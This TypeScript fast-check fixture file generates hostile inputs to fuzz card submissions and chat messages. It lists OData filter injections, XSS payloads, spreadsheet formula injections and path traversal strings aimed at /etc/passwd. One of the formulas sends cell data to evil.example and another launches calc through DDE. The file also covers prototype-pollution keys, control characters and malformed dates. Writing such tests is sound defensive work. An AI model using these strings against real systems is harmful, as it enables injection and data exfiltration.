import fc from 'fast-check';
import { englishOrRaw } from './card-text';

/**
 * What a broken client or an attacker may put in a card submission or a chat message (issue 10): wrong types,
 * huge strings, unicode and control characters, impossible dates, and injection strings aimed at OData filters,
 * HTML, spreadsheets, paths, templates and object prototypes.
 */

/** Strings that try to escape where they are used: OData filters, HTML, CSV formulas, paths, templates. */
export const injectionStrings: readonly string[] = [
  "' or PartitionKey ne '",
  "') or (PartitionKey ne '",
  '") or (',
  "' or 1 eq 1 or '",
  "x' and RowKey gt '",
  '$filter=PartitionKey ne \'\'',
  "PartitionKey eq 'BMI' or true",
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
  '=1+1',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd',
  '@SUM(1+1)',
  '\t=1+1',
  '../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2f',
  'a/b\\c#d?e',
  '${t.save}',
  '${$root}',
  '{{7*7}}',
  '{name}',
  '{id} {owner}',
  '%s%s%n',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'null',
  '*',
  "R-2026-0001' or '1'='1",
  '2021-07; drop table',
  '[lien](javascript:alert(1))',
  '**gras** _italique_ ~~barré~~',
];

/** Unicode that breaks naive code: direction overrides, emoji, combining marks, NUL and control characters, lone surrogates. */
export const unicodeStrings: readonly string[] = [
  '\u202Eevil\u202C',
  'مرحبا بالعالم',
  'שלום עולם',
  '👩🏽‍💻🇫🇷🏳️‍🌈',
  'e\u0301\u0301\u0301\u0301\u0301',
  'Z̷̨̛a̴l̸g̵o̶',
  '\u0000',
  'a\u0000b',
  '\u0007\u0008\u001b[31mrouge\u001b[0m',
  '\u0001\u0002\u0003\u001f\u007f',
  'ligne\r\nligne\nligne',
  '\uD800',
  'a\uDFFFb',
  '\uDBFF\uDBFF',
  '\uFEFFtexte',
  '\u200B\u200C\u200D',
  '\u2028\u2029',
  '𝔘𝔫𝔦𝔠𝔬𝔡𝔢',
  '２０２６-０１-０１',
  'ﷺ',
  '\uFFFD\uFFFF',
  'İıŞş',
];

/** Text that looks like a date and is no day (some forms read « 22/04/2027 » as French people write it: not here). */
export const badDates: readonly string[] = [
  '31/02/2026',
  '2026-13-01',
  '2026-02-30',
  '2026-02-31',
  '2025-02-29',
  '2026-00-10',
  '2026-04-31',
  '0000-01-01',
  '+275760-09-13',
  '-000001-01-01',
  '275760-09-13',
  '2026-1-1',
  '20260101',
  '2026/01/01',
  '32/01/2026',
  '29/02/2027',
  '01/13/2026',
  '2026-01-01T25:00:00Z',
  '9999-99-99',
  'demain',
  'Invalid Date',
  '1e308',
  '２０２６-０１-０１',
  '2026\u201001\u201001',
  '2026-01-0\u0000',
];

/** Text that looks like a time of day and is not one. */
export const badTimes: readonly string[] = ['25:00', '12:60', '24:01', '-1:00', '99:99', 'midi', '1400', '14h', '14:00:99'];

/** Numbers at the edges. */
export const hostileNumbers: readonly number[] = [NaN, Infinity, -Infinity, -0, 1e308, -1e308, 5e-324, 2 ** 53 + 1, -1, 1.5, 0];

let huge: string[] | undefined;

/** 100 KB strings (built once: jest workers keep memory low). */
export function hugeStrings(): readonly string[] {
  huge ??= [
    'A'.repeat(100_000),
    'é'.repeat(50_000),
    '👍'.repeat(25_000),
    'mot '.repeat(25_000),
    "' or PartitionKey ne '".repeat(4_600),
    '\u0000'.repeat(100_000),
    ' '.repeat(100_000),
    'E.17;'.repeat(20_000),
  ];
  return huge;
}

let long: string[] | undefined;

/**
 * Strings at the sizes the forms accept (1,000 to 20,000 characters) of characters that weigh more in a card's JSON
 * than they count: an emoji is 4 bytes, a control character 6 (\u0000), a quote 2. Shown back on a form, they may
 * push the card past Teams' size limit.
 */
export function longStrings(): readonly string[] {
  long ??= [1_000, 2_000, 5_000, 10_000, 20_000].flatMap((length) => ['👍', '\u0000', '"', 'é', '\\', '\u2028'].map((unit) => unit.repeat(length / unit.length)));
  return long;
}

/** Random text that cannot pass for English nor for a stack trace, so any of it echoed back is not mistaken for one. */
const notEnglish = (text: string) => !englishOrRaw.test(text);

/** Hostile text of every kind. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...injectionStrings) },
  { weight: 4, arbitrary: fc.constantFrom(...unicodeStrings) },
  { weight: 2, arbitrary: fc.constantFrom(...badDates) },
  { weight: 1, arbitrary: fc.integer({ min: 0, max: 7 }).map((index) => hugeStrings()[index] ?? '') },
  { weight: 1, arbitrary: fc.integer({ min: 0, max: 29 }).map((index) => longStrings()[index] ?? '') },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }).filter(notEnglish) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }).filter(notEnglish) },
  { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...injectionStrings), fc.constantFrom(...unicodeStrings)).map(([a, b]) => `${a}${b}`) },
);

/** A value of the wrong type where a string is expected. */
export const wrongType: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(...hostileNumbers),
  fc.integer(),
  fc.boolean(),
  fc.constant(null),
  fc.constant([]),
  fc.array(fc.constantFrom('BMI', "' or '1'='1", 1, null), { minLength: 1, maxLength: 3 }),
  fc.constant({}),
  fc.constant({ $ne: '' }),
  fc.constant({ toString: 'x', valueOf: 1 }),
  fc.constant(Object.fromEntries([['__proto__', { isAdmin: true }]])),
  fc.constant([[['profond']]]),
);

/**
 * A wrong type that no field may read as a valid value: no plain integer (a number of files, of months, may take
 * one, and a revision is one), nor zero.
 */
export const wrongTypeBreak: fc.Arbitrary<unknown> = wrongType.filter((value) => !(typeof value === 'number' && Number.isInteger(value) && Math.abs(value) < 2 ** 53));

/** Any hostile value: text or a wrong type. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof({ weight: 3, arbitrary: hostileText }, { weight: 2, arbitrary: wrongType });

/** Keys of an object that try to reach prototypes or shadow what code reads. */
export const hostileKeys: readonly string[] = ['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', '', ' ', 'verb', 'action', '$filter', "' or '"];

/** An object built as JSON.parse builds it: a `__proto__` key is an own property, not the prototype. */
export function ownObject(entries: readonly (readonly [string, unknown])[]): Record<string, unknown> {
  return Object.fromEntries(entries);
}

/** Random data of a card: hostile keys and ordinary ones, hostile values. */
export const hostileData: fc.Arbitrary<Record<string, unknown>> = fc
  .array(fc.tuple(fc.oneof(fc.constantFrom(...hostileKeys), fc.string({ maxLength: 12 }).filter(notEnglish)), hostileValue), { maxLength: 6 })
  .map(ownObject);
